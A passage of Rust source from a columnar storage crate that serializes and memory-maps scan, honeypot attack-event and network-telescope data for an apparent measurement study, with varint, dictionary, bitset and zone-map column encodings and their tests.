            encode_u32(&mut w, &[9, 8, 7], true);
            tb.column("x", KIND_U32, w);
            let mut seg = SegmentWriter::new();
            seg.table("only", tb.finish());
            seg.finish()
        };
        assert_eq!(build(), build());
    }
}
