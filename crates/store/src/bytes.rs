//! Little-endian primitives for the segment format.
//!
//! Readers slice straight out of the mapped file and decode with
//! `from_le_bytes`, so nothing here requires aligned pointers — a mapped
//! section is just bytes. Every multi-byte integer in the format is
//! little-endian; variable-length integers are LEB128.

/// Append helpers used by the writer.
pub struct Writer {
    pub buf: Vec<u8>,
}

impl Writer {
    pub fn new() -> Writer {
        Writer { buf: Vec::new() }
    }

    pub fn len(&self) -> usize {
        self.buf.len()
    }

    pub fn u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    pub fn u16(&mut self, v: u16) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub fn u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub fn u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// LEB128 unsigned varint.
    pub fn varint(&mut self, mut v: u64) {
        loop {
            let byte = (v & 0x7f) as u8;
            v >>= 7;
            if v == 0 {
                self.buf.push(byte);
                break;
            }
            self.buf.push(byte | 0x80);
        }
    }

    /// Length-prefixed UTF-8 string.
    pub fn string(&mut self, s: &str) {
        self.varint(s.len() as u64);
        self.buf.extend_from_slice(s.as_bytes());
    }

    pub fn bytes(&mut self, b: &[u8]) {
        self.buf.extend_from_slice(b);
    }

    /// Pad with zeros to an 8-byte boundary so section offsets stay aligned
    /// (not required for correctness — reads are unaligned-safe — but keeps
    /// the layout tidy and diffable).
    pub fn align8(&mut self) {
        while self.buf.len() % 8 != 0 {
            self.buf.push(0);
        }
    }
}

/// Cursor over a mapped byte slice. All reads are bounds-checked; a
/// truncated or corrupt file surfaces as an `Err`, never a panic.
#[derive(Clone, Copy)]
pub struct Reader<'a> {
    pub buf: &'a [u8],
    pub pos: usize,
}

/// Decode error: what was being read and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FormatError(pub String);

impl std::fmt::Display for FormatError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "store format error: {}", self.0)
    }
}

impl std::error::Error for FormatError {}

pub type Result<T> = std::result::Result<T, FormatError>;

impl<'a> Reader<'a> {
    pub fn new(buf: &'a [u8]) -> Reader<'a> {
        Reader { buf, pos: 0 }
    }

    pub fn at(buf: &'a [u8], pos: usize) -> Reader<'a> {
        Reader { buf, pos }
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8]> {
        let end = self
            .pos
            .checked_add(n)
            .filter(|&e| e <= self.buf.len())
            .ok_or_else(|| {
                FormatError(format!("read of {n} bytes at {} overruns {}", self.pos, self.buf.len()))
            })?;
        let s = &self.buf[self.pos..end];
        self.pos = end;
        Ok(s)
    }

    pub fn u8(&mut self) -> Result<u8> {
        Ok(self.take(1)?[0])
    }

    pub fn u16(&mut self) -> Result<u16> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().unwrap()))
    }

    pub fn u32(&mut self) -> Result<u32> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().unwrap()))
    }

    pub fn u64(&mut self) -> Result<u64> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().unwrap()))
    }

    pub fn varint(&mut self) -> Result<u64> {
        let mut v = 0u64;
        let mut shift = 0u32;
        loop {
            let byte = self.u8()?;
            if shift >= 64 {
                return Err(FormatError("varint wider than 64 bits".into()));
            }
            v |= u64::from(byte & 0x7f) << shift;
            if byte & 0x80 == 0 {
                return Ok(v);
            }
            shift += 7;
        }
    }

    pub fn string(&mut self) -> Result<String> {
        let len = self.varint()? as usize;
        let bytes = self.take(len)?;
        String::from_utf8(bytes.to_vec())
            .map_err(|_| FormatError("string section is not UTF-8".into()))
    }

    pub fn slice(&mut self, n: usize) -> Result<&'a [u8]> {
        self.take(n)
    }
}

/// Decode one little-endian `u32` at byte offset `off` (unaligned-safe).
#[inline]
pub fn u32_at(buf: &[u8], off: usize) -> u32 {
    u32::from_le_bytes(buf[off..off + 4].try_into().unwrap())
}

/// Decode one little-endian `u16` at byte offset `off`.
#[inline]
pub fn u16_at(buf: &[u8], off: usize) -> u16 {
    u16::from_le_bytes(buf[off..off + 2].try_into().unwrap())
}

/// Decode one little-endian `u64` at byte offset `off`.
#[inline]
pub fn u64_at(buf: &[u8], off: usize) -> u64 {
    u64::from_le_bytes(buf[off..off + 8].try_into().unwrap())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn varint_roundtrip() {
        let mut w = Writer::new();
        let values = [0u64, 1, 127, 128, 300, 1 << 20, u64::MAX];
        for &v in &values {
            w.varint(v);
        }
        let mut r = Reader::new(&w.buf);
        for &v in &values {
            assert_eq!(r.varint().unwrap(), v);
        }
        assert_eq!(r.pos, w.buf.len());
    }

    #[test]
    fn truncated_reads_error() {
        let mut r = Reader::new(&[1, 2, 3]);
        assert!(r.u32().is_err());
        let mut r2 = Reader::new(&[0x80, 0x80]);
        assert!(r2.varint().is_err());
    }

    #[test]
    fn strings_and_alignment() {
        let mut w = Writer::new();
        w.string("columnar");
        w.align8();
        assert_eq!(w.len() % 8, 0);
        let mut r = Reader::new(&w.buf);
        assert_eq!(r.string().unwrap(), "columnar");
    }
}
