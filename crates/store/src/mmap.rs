//! Read-only memory mapping of a store file.
//!
//! The query engine never materializes columns: every read resolves into
//! the kernel's page cache through one shared mapping, so N query threads
//! over one [`Mmap`] cost one copy of the file in memory, not N. The
//! mapping is created once at open time and stays immutable — [`Mmap`] is
//! `Send + Sync` by construction (`PROT_READ`, private mapping, no
//! interior mutability), which is what lets `Arc<StoreReader>` fan out
//! across a thread pool without locks on the read path.
//!
//! The syscall surface is three symbols (`mmap`/`munmap` and the file
//! descriptor from `std`), declared directly against the C library `std`
//! already links — no external crate. Non-Unix targets (and empty files)
//! fall back to reading the file into an owned buffer; everything above
//! this module only sees `&[u8]`.

use std::fs::File;
use std::io;
use std::ops::Deref;

#[cfg(unix)]
mod sys {
    pub const PROT_READ: i32 = 1;
    pub const MAP_PRIVATE: i32 = 2;

    extern "C" {
        pub fn mmap(
            addr: *mut u8,
            len: usize,
            prot: i32,
            flags: i32,
            fd: i32,
            offset: i64,
        ) -> *mut u8;
        pub fn munmap(addr: *mut u8, len: usize) -> i32;
    }
}

/// A read-only view of a whole file.
#[derive(Debug)]
pub enum Mmap {
    /// A live `mmap(2)` region (unmapped on drop).
    #[cfg(unix)]
    Mapped { ptr: *mut u8, len: usize },
    /// Owned fallback: empty files, non-Unix targets, or mmap failure.
    Owned(Vec<u8>),
}

// SAFETY: the mapping is immutable (PROT_READ, MAP_PRIVATE, file opened
// read-only) and the raw pointer is only ever dereferenced through `&self`.
#[cfg(unix)]
unsafe impl Send for Mmap {}
#[cfg(unix)]
unsafe impl Sync for Mmap {}

impl Mmap {
    /// Map `file` read-only. Falls back to an owned read if the mapping is
    /// impossible (zero-length file, exotic filesystem, non-Unix target).
    pub fn map(file: &File) -> io::Result<Mmap> {
        let len = file.metadata()?.len() as usize;
        if len == 0 {
            return Ok(Mmap::Owned(Vec::new()));
        }
        #[cfg(unix)]
        {
            use std::os::fd::AsRawFd;
            let ptr = unsafe {
                sys::mmap(
                    std::ptr::null_mut(),
                    len,
                    sys::PROT_READ,
                    sys::MAP_PRIVATE,
                    file.as_raw_fd(),
                    0,
                )
            };
            if ptr as isize != -1 && !ptr.is_null() {
                return Ok(Mmap::Mapped { ptr, len });
            }
            // fall through to the owned read
        }
        Self::read_owned(file)
    }

    fn read_owned(file: &File) -> io::Result<Mmap> {
        use std::io::Read;
        let mut buf = Vec::new();
        let mut f = file.try_clone()?;
        f.read_to_end(&mut buf)?;
        Ok(Mmap::Owned(buf))
    }

    /// Whether this view is a real kernel mapping (diagnostics only).
    pub fn is_mapped(&self) -> bool {
        match self {
            #[cfg(unix)]
            Mmap::Mapped { .. } => true,
            Mmap::Owned(_) => false,
        }
    }

    pub fn as_slice(&self) -> &[u8] {
        match self {
            #[cfg(unix)]
            // SAFETY: ptr/len came from a successful mmap that lives until
            // drop; the region is never written or remapped.
            Mmap::Mapped { ptr, len } => unsafe { std::slice::from_raw_parts(*ptr, *len) },
            Mmap::Owned(v) => v.as_slice(),
        }
    }
}

impl Drop for Mmap {
    fn drop(&mut self) {
        #[cfg(unix)]
        if let Mmap::Mapped { ptr, len } = self {
            // SAFETY: exact (ptr, len) pair returned by mmap above.
            unsafe { sys::munmap(*ptr, *len) };
        }
    }
}

impl Deref for Mmap {
    type Target = [u8];

    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn maps_file_contents() {
        let path = std::env::temp_dir().join(format!("ofh_mmap_test_{}", std::process::id()));
        let mut f = File::create(&path).unwrap();
        f.write_all(b"columnar").unwrap();
        f.sync_all().unwrap();
        let ro = File::open(&path).unwrap();
        let m = Mmap::map(&ro).unwrap();
        assert_eq!(&m[..], b"columnar");
        #[cfg(unix)]
        assert!(m.is_mapped());
        drop(m);
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn empty_file_is_owned() {
        let path = std::env::temp_dir().join(format!("ofh_mmap_empty_{}", std::process::id()));
        File::create(&path).unwrap();
        let ro = File::open(&path).unwrap();
        let m = Mmap::map(&ro).unwrap();
        assert!(m.is_empty());
        assert!(!m.is_mapped());
        drop(m);
        std::fs::remove_file(&path).ok();
    }
}
