//! Build a segment file from the end-of-study artifacts.
//!
//! The builder consumes exactly the merged artifacts the analysis stage
//! consumes — scan results, the honeypot filter set, the merged attack
//! dataset, the telescope capture and the intel oracles — so everything a
//! table or figure derives can be re-derived from the store. Row order is
//! fixed by the artifacts' own canonical orders (`BTreeMap` iteration,
//! time-sorted event and flow streams), dictionaries are built in
//! first-appearance order over those rows, and nothing environmental
//! (timestamps, host names, worker counts) enters the file: store bytes
//! are a pure function of (seed, shards).

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_analysis::events::{AttackDataset, SourceClass};
use ofh_devices::Misconfig;
use ofh_intel::{GeoDb, ReverseDns};
use ofh_scan::ScanResults;
use ofh_telescope::Telescope;

use crate::bytes::Writer;
use crate::column::{
    encode_bitset, encode_t64, encode_u16, encode_u32, DictBuilder, KIND_BITSET, KIND_DICT8,
    KIND_T64, KIND_U16, KIND_U32,
};
use crate::segment::{SegmentWriter, TableBuilder};

/// Label used in dictionary columns for "no value" (no misconfiguration,
/// no device tag, no studied protocol on this port).
pub const NONE_LABEL: &str = "-";

/// The stable label of a misconfiguration class (its variant name).
pub fn misconfig_label(m: Misconfig) -> String {
    format!("{m:?}")
}

/// The stable label of a source classification.
pub const fn source_class_label(c: SourceClass) -> &'static str {
    match c {
        SourceClass::ScanningService => "scanning_service",
        SourceClass::Malicious => "malicious",
        SourceClass::Unknown => "unknown",
    }
}

/// Everything the store serializes, borrowed from the finished study.
pub struct StoreInput<'a> {
    pub seed: u64,
    pub shards: u32,
    /// Preset name of the producing run — carried in the `meta` table so a
    /// store artifact identifies its run, like the trace header does.
    pub preset: &'a str,
    pub zmap: &'a ScanResults,
    pub sonar: &'a ScanResults,
    pub shodan: &'a ScanResults,
    /// Confirmed-honeypot addresses (the §4.2 sanitization filter).
    pub honeypot_filter: &'a BTreeSet<Ipv4Addr>,
    pub dataset: &'a AttackDataset,
    pub rdns: &'a ReverseDns,
    pub telescope: &'a Telescope,
    pub geo: &'a GeoDb,
}

/// ASN encoding: `Option<u32>` stored as `asn + 1`, 0 = unknown.
fn asn_plus1(asn: Option<u32>) -> u32 {
    asn.map(|a| a + 1).unwrap_or(0)
}

fn build_scan_table(input: &StoreInput<'_>) -> Vec<u8> {
    let sources = [input.zmap, input.sonar, input.shodan];
    let rows: usize = sources.iter().map(|s| s.records.len()).sum();

    let mut source = DictBuilder::new();
    let mut addrs: Vec<u32> = Vec::with_capacity(rows);
    let mut ports: Vec<u16> = Vec::with_capacity(rows);
    let mut protocol = DictBuilder::new();
    let mut misconfig = DictBuilder::new();
    let mut device = DictBuilder::new();
    let mut country = DictBuilder::new();
    let mut asns: Vec<u32> = Vec::with_capacity(rows);
    let mut hp_filtered: Vec<bool> = Vec::with_capacity(rows);

    for results in sources {
        for record in results.records.values() {
            source.push(&results.source);
            addrs.push(u32::from(record.addr));
            ports.push(record.port);
            protocol.push(record.protocol.name());
            misconfig.push(
                &record
                    .misconfig()
                    .map(misconfig_label)
                    .unwrap_or_else(|| NONE_LABEL.to_string()),
            );
            device.push(record.device().map(|d| d.name).unwrap_or(NONE_LABEL));
            country.push(input.geo.country_of(record.addr).code());
            asns.push(asn_plus1(input.geo.asn_of(record.addr)));
            hp_filtered.push(input.honeypot_filter.contains(&record.addr));
        }
    }

    let mut tb = TableBuilder::new(rows);
    let mut w = Writer::new();
    source.encode(&mut w);
    tb.column("source", KIND_DICT8, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &addrs, true);
    tb.column("addr", KIND_U32, w);
    let mut w = Writer::new();
    encode_u16(&mut w, &ports);
    tb.column("port", KIND_U16, w);
    let mut w = Writer::new();
    protocol.encode(&mut w);
    tb.column("protocol", KIND_DICT8, w);
    let mut w = Writer::new();
    misconfig.encode(&mut w);
    tb.column("misconfig", KIND_DICT8, w);
    let mut w = Writer::new();
    device.encode(&mut w);
    tb.column("device", KIND_DICT8, w);
    let mut w = Writer::new();
    country.encode(&mut w);
    tb.column("country", KIND_DICT8, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &asns, false);
    tb.column("asn1", KIND_U32, w);
    let mut w = Writer::new();
    encode_bitset(&mut w, &hp_filtered);
    tb.column("hp_filtered", KIND_BITSET, w);
    tb.finish()
}

fn build_events_table(input: &StoreInput<'_>) -> Vec<u8> {
    let dataset = input.dataset;
    let rows = dataset.events.len();

    // Source classification is a property of the (honeypot, src) pair;
    // classify each pair once, exactly as Table 7 does.
    let pairs: BTreeSet<(&'static str, Ipv4Addr)> =
        dataset.events.iter().map(|e| (e.honeypot, e.src)).collect();
    let classes: BTreeMap<(&'static str, Ipv4Addr), &'static str> = pairs
        .into_iter()
        .map(|(hp, src)| {
            let class = dataset.classify_source(input.rdns, hp, src);
            ((hp, src), source_class_label(class))
        })
        .collect();

    let mut times: Vec<u64> = Vec::with_capacity(rows);
    let mut honeypot = DictBuilder::new();
    let mut protocol = DictBuilder::new();
    let mut srcs: Vec<u32> = Vec::with_capacity(rows);
    let mut src_ports: Vec<u16> = Vec::with_capacity(rows);
    let mut kind = DictBuilder::new();
    let mut attack_type = DictBuilder::new();
    let mut src_class = DictBuilder::new();
    let mut country = DictBuilder::new();
    let mut asns: Vec<u32> = Vec::with_capacity(rows);

    for e in &dataset.events {
        times.push(e.time.0);
        honeypot.push(e.honeypot);
        protocol.push(e.protocol.name());
        srcs.push(u32::from(e.src));
        src_ports.push(e.src_port);
        kind.push(e.kind.name());
        attack_type.push(dataset.attack_type(e).name());
        src_class.push(classes[&(e.honeypot, e.src)]);
        country.push(input.geo.country_of(e.src).code());
        asns.push(asn_plus1(input.geo.asn_of(e.src)));
    }

    let mut tb = TableBuilder::new(rows);
    let mut w = Writer::new();
    encode_t64(&mut w, &times);
    tb.column("time", KIND_T64, w);
    let mut w = Writer::new();
    honeypot.encode(&mut w);
    tb.column("honeypot", KIND_DICT8, w);
    let mut w = Writer::new();
    protocol.encode(&mut w);
    tb.column("protocol", KIND_DICT8, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &srcs, true);
    tb.column("src", KIND_U32, w);
    let mut w = Writer::new();
    encode_u16(&mut w, &src_ports);
    tb.column("src_port", KIND_U16, w);
    let mut w = Writer::new();
    kind.encode(&mut w);
    tb.column("kind", KIND_DICT8, w);
    let mut w = Writer::new();
    attack_type.encode(&mut w);
    tb.column("attack_type", KIND_DICT8, w);
    let mut w = Writer::new();
    src_class.encode(&mut w);
    tb.column("src_class", KIND_DICT8, w);
    let mut w = Writer::new();
    country.encode(&mut w);
    tb.column("country", KIND_DICT8, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &asns, false);
    tb.column("asn1", KIND_U32, w);
    tb.finish()
}

fn build_telescope_table(input: &StoreInput<'_>) -> Vec<u8> {
    let rows = input.telescope.total_records() as usize;

    let mut times: Vec<u64> = Vec::with_capacity(rows);
    let mut srcs: Vec<u32> = Vec::with_capacity(rows);
    let mut dst_ports: Vec<u16> = Vec::with_capacity(rows);
    let mut protocol = DictBuilder::new();
    let mut country = DictBuilder::new();
    let mut asns: Vec<u32> = Vec::with_capacity(rows);
    let mut packet_cnts: Vec<u32> = Vec::with_capacity(rows);
    let mut spoofed: Vec<bool> = Vec::with_capacity(rows);
    let mut masscan: Vec<bool> = Vec::with_capacity(rows);

    // `records()` walks minute files in ascending minute order and each
    // minute is canonically time-sorted, so the time column is globally
    // non-decreasing — the T64 precondition.
    for ft in input.telescope.records() {
        times.push(ft.time.0);
        srcs.push(u32::from(ft.src_ip));
        dst_ports.push(ft.dst_port);
        protocol.push(ft.target_protocol().map(|p| p.name()).unwrap_or(NONE_LABEL));
        country.push(&ft.country);
        asns.push(asn_plus1(ft.asn));
        packet_cnts.push(ft.packet_cnt);
        spoofed.push(ft.is_spoofed);
        masscan.push(ft.is_masscan);
    }

    let mut tb = TableBuilder::new(rows);
    let mut w = Writer::new();
    encode_t64(&mut w, &times);
    tb.column("time", KIND_T64, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &srcs, true);
    tb.column("src", KIND_U32, w);
    let mut w = Writer::new();
    encode_u16(&mut w, &dst_ports);
    tb.column("dst_port", KIND_U16, w);
    let mut w = Writer::new();
    protocol.encode(&mut w);
    tb.column("protocol", KIND_DICT8, w);
    let mut w = Writer::new();
    country.encode(&mut w);
    tb.column("country", KIND_DICT8, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &asns, false);
    tb.column("asn1", KIND_U32, w);
    let mut w = Writer::new();
    encode_u32(&mut w, &packet_cnts, false);
    tb.column("packet_cnt", KIND_U32, w);
    let mut w = Writer::new();
    encode_bitset(&mut w, &spoofed);
    tb.column("spoofed", KIND_BITSET, w);
    let mut w = Writer::new();
    encode_bitset(&mut w, &masscan);
    tb.column("masscan", KIND_BITSET, w);
    tb.finish()
}

fn build_meta_table(input: &StoreInput<'_>) -> Vec<u8> {
    // One row of dictionary columns: uniform with every other table, and
    // free of anything environmental.
    let mut tb = TableBuilder::new(1);
    for (name, value) in [
        ("seed", input.seed.to_string()),
        ("shards", input.shards.to_string()),
        ("preset", input.preset.to_string()),
        ("format", "ofh_store/1".to_string()),
    ] {
        let mut d = DictBuilder::new();
        d.push(&value);
        let mut w = Writer::new();
        d.encode(&mut w);
        tb.column(name, KIND_DICT8, w);
    }
    tb.finish()
}

/// Serialize the study artifacts into one segment file.
pub fn build_store(input: &StoreInput<'_>) -> Vec<u8> {
    let mut seg = SegmentWriter::new();
    seg.table("meta", build_meta_table(input));
    seg.table("scan", build_scan_table(input));
    seg.table("events", build_events_table(input));
    seg.table("telescope", build_telescope_table(input));
    seg.finish()
}

/// Build and write the store to `path`. Returns the byte count.
pub fn write_store(path: &std::path::Path, input: &StoreInput<'_>) -> std::io::Result<u64> {
    let bytes = build_store(input);
    std::fs::write(path, &bytes)?;
    Ok(bytes.len() as u64)
}
