//! Column encodings.
//!
//! Five physical layouts cover every logical column in the store:
//!
//! | kind | layout | used for |
//! |------|--------|----------|
//! | `U32`    | fixed 4-byte rows + per-block zone maps | addresses, ASN, packet counts |
//! | `U16`    | fixed 2-byte rows                       | ports |
//! | `DICT8`  | u8 codes + string dictionary + per-value bitmaps | protocol, country, honeypot, misconfiguration, … |
//! | `T64`    | delta+LEB128 with block restarts        | sim-time columns (sorted) |
//! | `BITSET` | one bit per row in u64 words            | boolean flags |
//!
//! Every block structure uses [`BLOCK_ROWS`]-row blocks; the per-block
//! (min, max) directory of `U32` and `T64` *is* the zone map, and `T64`'s
//! restart offsets double as the random-access index into the varint
//! stream. Encoders append to a [`Writer`]; decoders are thin views over
//! the mapped file that copy only metadata (dictionaries, block
//! directories) at open time — row data is always read in place.

use crate::bytes::{u16_at, u32_at, u64_at, FormatError, Reader, Result, Writer};

/// Rows per zone-map / restart block.
pub const BLOCK_ROWS: usize = 1024;

/// Physical column kinds (the `kind` byte in a table's column directory).
pub const KIND_U32: u8 = 0;
pub const KIND_U16: u8 = 1;
pub const KIND_DICT8: u8 = 2;
pub const KIND_T64: u8 = 3;
pub const KIND_BITSET: u8 = 4;

fn words_for(rows: usize) -> usize {
    rows.div_ceil(64)
}

// ---------------------------------------------------------------------------
// Encoders
// ---------------------------------------------------------------------------

/// Encode a `U32` column: `zoned u8`, row data, then (if zoned) the
/// per-block `(min, max)` directory.
pub fn encode_u32(w: &mut Writer, values: &[u32], zoned: bool) {
    w.u8(zoned as u8);
    for &v in values {
        w.u32(v);
    }
    if zoned {
        let blocks: Vec<(u32, u32)> = values
            .chunks(BLOCK_ROWS)
            .map(|c| {
                let min = c.iter().copied().min().unwrap_or(0);
                let max = c.iter().copied().max().unwrap_or(0);
                (min, max)
            })
            .collect();
        w.u32(blocks.len() as u32);
        for (min, max) in blocks {
            w.u32(min);
            w.u32(max);
        }
    }
}

/// Encode a `U16` column: raw row data.
pub fn encode_u16(w: &mut Writer, values: &[u16]) {
    for &v in values {
        w.u16(v);
    }
}

/// Builder for a `DICT8` column: labels are assigned codes in first-appearance
/// order, which makes the dictionary — and therefore the file bytes — a pure
/// function of the row stream.
pub struct DictBuilder {
    labels: Vec<String>,
    codes: Vec<u8>,
}

impl DictBuilder {
    pub fn new() -> DictBuilder {
        DictBuilder {
            labels: Vec::new(),
            codes: Vec::new(),
        }
    }

    pub fn push(&mut self, label: &str) {
        let code = match self.labels.iter().position(|l| l == label) {
            Some(i) => i,
            None => {
                assert!(self.labels.len() < 256, "DICT8 overflow: >256 distinct labels");
                self.labels.push(label.to_string());
                self.labels.len() - 1
            }
        };
        self.codes.push(code as u8);
    }

    pub fn len(&self) -> usize {
        self.codes.len()
    }

    /// Encode: `dict_count u16`, dictionary strings, row codes, then one
    /// bitmap (bit i = "row i has this value") per dictionary entry.
    pub fn encode(&self, w: &mut Writer) {
        w.u16(self.labels.len() as u16);
        for l in &self.labels {
            w.string(l);
        }
        w.bytes(&self.codes);
        let words = words_for(self.codes.len());
        for code in 0..self.labels.len() {
            let mut bitmap = vec![0u64; words];
            for (row, &c) in self.codes.iter().enumerate() {
                if c as usize == code {
                    bitmap[row / 64] |= 1 << (row % 64);
                }
            }
            for word in bitmap {
                w.u64(word);
            }
        }
    }
}

/// Encode a `T64` column (values must be non-decreasing): a restart-block
/// directory of `(min, max, byte_off)` followed by the varint stream —
/// each block opens with its first value absolute, then deltas.
pub fn encode_t64(w: &mut Writer, values: &[u64]) {
    debug_assert!(values.windows(2).all(|p| p[0] <= p[1]), "T64 input must be sorted");
    let mut data = Writer::new();
    let mut dir: Vec<(u64, u64, u64)> = Vec::with_capacity(values.len().div_ceil(BLOCK_ROWS));
    for chunk in values.chunks(BLOCK_ROWS) {
        let off = data.len() as u64;
        dir.push((chunk[0], *chunk.last().unwrap(), off));
        data.varint(chunk[0]);
        for pair in chunk.windows(2) {
            data.varint(pair[1] - pair[0]);
        }
    }
    w.u32(dir.len() as u32);
    for (min, max, off) in dir {
        w.u64(min);
        w.u64(max);
        w.u64(off);
    }
    w.bytes(&data.buf);
}

/// Encode a `BITSET` column: `rows.div_ceil(64)` words.
pub fn encode_bitset(w: &mut Writer, bits: &[bool]) {
    let mut words = vec![0u64; words_for(bits.len())];
    for (row, &b) in bits.iter().enumerate() {
        if b {
            words[row / 64] |= 1 << (row % 64);
        }
    }
    for word in words {
        w.u64(word);
    }
}

// ---------------------------------------------------------------------------
// Decoders (views over the mapped file)
// ---------------------------------------------------------------------------

/// View of a `U32` column.
#[derive(Debug, Clone)]
pub struct U32View {
    /// Absolute byte offset of the row data in the file.
    data_off: usize,
    rows: usize,
    /// Per-block (min, max); empty when the column was written unzoned.
    pub zones: Vec<(u32, u32)>,
}

impl U32View {
    pub fn parse(file: &[u8], off: usize, len: usize, rows: usize) -> Result<U32View> {
        let mut r = Reader::at(file, off);
        let zoned = r.u8()? != 0;
        let data_off = r.pos;
        r.slice(rows * 4)?;
        let zones = if zoned {
            let n = r.u32()? as usize;
            if n != rows.div_ceil(BLOCK_ROWS) {
                return Err(FormatError(format!("U32 zone count {n} for {rows} rows")));
            }
            (0..n).map(|_| Ok((r.u32()?, r.u32()?))).collect::<Result<_>>()?
        } else {
            Vec::new()
        };
        if r.pos > off + len {
            return Err(FormatError("U32 column overruns its directory entry".into()));
        }
        Ok(U32View { data_off, rows, zones })
    }

    #[inline]
    pub fn get(&self, file: &[u8], row: usize) -> u32 {
        u32_at(file, self.data_off + row * 4)
    }

    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Row indexes equal to `value`, pruned through the zone map: blocks
    /// whose `[min, max]` excludes the value are never touched.
    pub fn find_eq(&self, file: &[u8], value: u32) -> Vec<usize> {
        let mut out = Vec::new();
        self.for_each_eq(file, value, |row| out.push(row));
        out
    }

    /// Visit row indexes equal to `value` (zone-pruned, ascending).
    /// Returns the number of rows the zone map pruned — rows in blocks the
    /// scan never touched. Deterministic: a pure function of the store and
    /// the value, so it can feed the regression sentinel's counters.
    pub fn for_each_eq(&self, file: &[u8], value: u32, mut f: impl FnMut(usize)) -> u64 {
        if self.zones.is_empty() {
            for row in 0..self.rows {
                if self.get(file, row) == value {
                    f(row);
                }
            }
            return 0;
        }
        let mut pruned = 0u64;
        for (block, &(min, max)) in self.zones.iter().enumerate() {
            let start = block * BLOCK_ROWS;
            let end = (start + BLOCK_ROWS).min(self.rows);
            if value < min || value > max {
                pruned += (end - start) as u64;
                continue;
            }
            for row in start..end {
                if self.get(file, row) == value {
                    f(row);
                }
            }
        }
        pruned
    }
}

/// View of a `U16` column.
#[derive(Debug, Clone)]
pub struct U16View {
    data_off: usize,
    rows: usize,
}

impl U16View {
    pub fn parse(file: &[u8], off: usize, len: usize, rows: usize) -> Result<U16View> {
        if len < rows * 2 {
            return Err(FormatError("U16 column shorter than its row count".into()));
        }
        let mut r = Reader::at(file, off);
        r.slice(rows * 2)?;
        Ok(U16View { data_off: off, rows })
    }

    #[inline]
    pub fn get(&self, file: &[u8], row: usize) -> u16 {
        u16_at(file, self.data_off + row * 2)
    }

    pub fn rows(&self) -> usize {
        self.rows
    }
}

/// View of a `DICT8` column: dictionary copied out at open, codes and
/// bitmaps read in place.
#[derive(Debug, Clone)]
pub struct DictView {
    pub labels: Vec<String>,
    codes_off: usize,
    bitmaps_off: usize,
    rows: usize,
}

impl DictView {
    pub fn parse(file: &[u8], off: usize, len: usize, rows: usize) -> Result<DictView> {
        let mut r = Reader::at(file, off);
        let n = r.u16()? as usize;
        let labels: Vec<String> = (0..n).map(|_| r.string()).collect::<Result<_>>()?;
        let codes_off = r.pos;
        r.slice(rows)?;
        let bitmaps_off = r.pos;
        r.slice(n * words_for(rows) * 8)?;
        if r.pos > off + len {
            return Err(FormatError("DICT8 column overruns its directory entry".into()));
        }
        Ok(DictView {
            labels,
            codes_off,
            bitmaps_off,
            rows,
        })
    }

    pub fn rows(&self) -> usize {
        self.rows
    }

    #[inline]
    pub fn code(&self, file: &[u8], row: usize) -> u8 {
        file[self.codes_off + row]
    }

    pub fn label(&self, file: &[u8], row: usize) -> &str {
        &self.labels[self.code(file, row) as usize]
    }

    /// Dictionary code of `label`, if the store saw that value.
    pub fn code_of(&self, label: &str) -> Option<u8> {
        self.labels.iter().position(|l| l == label).map(|i| i as u8)
    }

    fn words(&self) -> usize {
        words_for(self.rows)
    }

    /// The bitmap word at `word_idx` for dictionary entry `code`.
    #[inline]
    pub fn bitmap_word(&self, file: &[u8], code: u8, word_idx: usize) -> u64 {
        u64_at(file, self.bitmaps_off + (code as usize * self.words() + word_idx) * 8)
    }

    /// Rows carrying `code`, by bitmap popcount — O(rows / 64).
    pub fn count(&self, file: &[u8], code: u8) -> u64 {
        (0..self.words())
            .map(|i| self.bitmap_word(file, code, i).count_ones() as u64)
            .sum()
    }
}

/// One restart block of a `T64` column.
#[derive(Debug, Clone, Copy)]
pub struct TimeBlock {
    pub min: u64,
    pub max: u64,
    /// Byte offset of the block's varint run, relative to the stream start.
    pub off: u64,
}

/// View of a `T64` column.
#[derive(Debug, Clone)]
pub struct T64View {
    pub blocks: Vec<TimeBlock>,
    data_off: usize,
    rows: usize,
}

impl T64View {
    pub fn parse(file: &[u8], off: usize, len: usize, rows: usize) -> Result<T64View> {
        let mut r = Reader::at(file, off);
        let n = r.u32()? as usize;
        if n != rows.div_ceil(BLOCK_ROWS) {
            return Err(FormatError(format!("T64 block count {n} for {rows} rows")));
        }
        let blocks: Vec<TimeBlock> = (0..n)
            .map(|_| {
                Ok(TimeBlock {
                    min: r.u64()?,
                    max: r.u64()?,
                    off: r.u64()?,
                })
            })
            .collect::<Result<_>>()?;
        let data_off = r.pos;
        if data_off > off + len {
            return Err(FormatError("T64 column overruns its directory entry".into()));
        }
        Ok(T64View { blocks, data_off, rows })
    }

    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Decode one block, calling `f(row, value)`; returns `false` from `f`
    /// to stop early (values within a block are non-decreasing).
    pub fn decode_block(
        &self,
        file: &[u8],
        block: usize,
        mut f: impl FnMut(usize, u64) -> bool,
    ) -> Result<()> {
        let start_row = block * BLOCK_ROWS;
        let rows_here = (self.rows - start_row).min(BLOCK_ROWS);
        let mut r = Reader::at(file, self.data_off + self.blocks[block].off as usize);
        let mut v = r.varint()?;
        if !f(start_row, v) {
